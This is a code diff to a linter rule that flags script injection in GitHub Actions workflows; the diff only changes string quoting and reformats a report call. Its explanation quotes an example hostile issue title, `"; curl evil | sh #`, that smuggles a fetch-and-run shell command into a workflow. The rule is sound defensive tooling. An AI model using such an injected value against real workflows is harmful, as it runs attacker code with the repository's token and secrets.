@@ -9,7 +9,7 @@ export const scriptInjection = rule({
   levels: { recommended: "error", strict: "error" },
   fixable: true,
   summary: "No text that outsiders write becomes part of a script.",
-  why: "A `${{ }}` in a script is replaced before any program reads it, so a title such as `\"; curl evil | sh #` is run as code (GitHub's security hardening guide, \"Script injections\"). The value is followed through `env`, step and job outputs and the matrix; it is an error where the run holds the repository's token and secrets, and a warning where it runs without them.",
+  why: 'A `${{ }}` in a script is replaced before any program reads it, so a title such as `"; curl evil | sh #` is run as code (GitHub\'s security hardening guide, "Script injections"). The value is followed through `env`, step and job outputs and the matrix; it is an error where the run holds the repository\'s token and secrets, and a warning where it runs without them.',
   bad: [
     `on: issues
 jobs:
@@ -68,7 +68,11 @@ jobs:
   document(document, { report }) {
     for (const injection of injectionsIn(document, taintOf(document))) {
       if (injection.taint.trust !== "anyone" && !crossesBranches(injection.taint)) continue;
-      report(injection.at, injectionMessage(injection), { level: injectionLevel(injection), related: wayTo(injection.taint, document, injection.at), fix: injectionFix(document, injection.sink, injection.site) });
+      report(injection.at, injectionMessage(injection), {
+        level: injectionLevel(injection),
+        related: wayTo(injection.taint, document, injection.at),
+        fix: injectionFix(document, injection.sink, injection.site),
+      });
     }
   },
 });
